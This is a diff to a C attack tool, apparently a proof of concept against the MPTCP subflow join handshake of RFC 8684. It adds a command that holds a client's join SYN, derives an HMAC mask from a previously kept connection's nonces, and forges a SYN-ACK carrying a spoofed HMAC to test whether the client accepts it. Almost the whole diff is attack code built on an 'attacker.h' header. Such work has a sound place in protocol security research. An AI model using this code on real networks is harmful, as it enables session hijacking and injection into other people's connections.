@@ -4,6 +4,7 @@
  * in it is used for a join to another
  */
 #include <stdio.h>
+#include <string.h>
 
 #include "attacker.h"
 
@@ -85,6 +86,38 @@ bool cmd_oracle(void)
 
 	swap_ack(join, y, attempt.nonces, x, attempt.nonces, hmac);
 	end_join(&attempt, x, hmac);
+	return true;
+}
+
+/*
+ * The client's next join gets its answer from the attacker: with the HMAC of RFC 8684 under the
+ * mask of the server's in the join that was kept, which was one of connection kept_of=N
+ */
+bool cmd_answer(void)
+{
+	int path = (int)arg_number("path", "2") - 1;
+	const struct connection *x, *y = arg_connection("kept_of");
+	struct attempt attempt = { 0 }, old = { 0 };
+	struct frame frame, syn_frame;
+	struct segment segment, syn;
+	uint64_t mask;
+	uint8_t *join;
+
+	join = hold_syn(&syn_frame, &syn);
+	if (!join)
+		return true;
+	x = last_connection();
+	if (!x || !y || kept.seen != 3)
+		return false;
+	memcpy(old.nonces, kept.nonces, sizeof(old.nonces));
+	mask = kept.synack ^ synack_hmac(y, &old);
+	attempt.nonces[CLIENT] = get32(join + 8);
+	attempt.nonces[SERVER] = random32();
+	send_synack(path, CLIENT, &syn, synack_hmac(x, &attempt) ^ mask,
+		    attempt.nonces[SERVER]);
+	join = next_join(JOIN_ACK_LEN, now_ms() + patience_ms, &frame,
+			 &segment);
+	printf(" client=%s", answers[join ? ANSWERED : SILENT]);
 	return true;
 }
 
